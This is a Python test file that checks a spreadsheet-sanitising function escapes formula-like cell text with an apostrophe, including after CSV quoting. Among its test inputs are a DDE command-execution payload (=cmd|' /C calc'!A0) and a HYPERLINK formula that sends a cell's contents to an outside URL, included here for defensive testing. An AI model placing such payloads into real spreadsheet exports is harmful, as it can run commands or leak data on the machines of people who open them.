"""No cell of ours is taken for a formula."""

import csv
import io
from datetime import date

import pytest

from practice.spreadsheets import safe_cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("https://example.com?"&A1, "Click")',
        "+1",
        "-1",
        "-",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        " =1+1",
        "   @x",
        "=cmd|' /C calc'!A0",
    ],
)
def test_what_looks_like_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    ["", " ", "12.34", "(12.34)", "S-1", "a=b", "1-2", "a@b.example", "'=1", "Ñandú", "2026-10-01", "R-2026-000001"],
)
def test_other_text_stays_as_it_is(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"), [(0, "0"), (12, "12"), (-12, "'-12"), (date(2026, 10, 1), "2026-10-01"), (True, "True")]
)
def test_values_become_text(value, cell):
    assert safe_cell(value) == cell


@pytest.mark.parametrize("text", ["=1,2", '="x"', "\n=1", "+1\r\n=2"])
def test_the_apostrophe_survives_csv(text):
    """Quoting alone protects nobody: a spreadsheet takes the quotes off before it looks."""
    out = io.StringIO(newline="")
    csv.writer(out).writerow([safe_cell(text)])

    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [f"'{text}"]
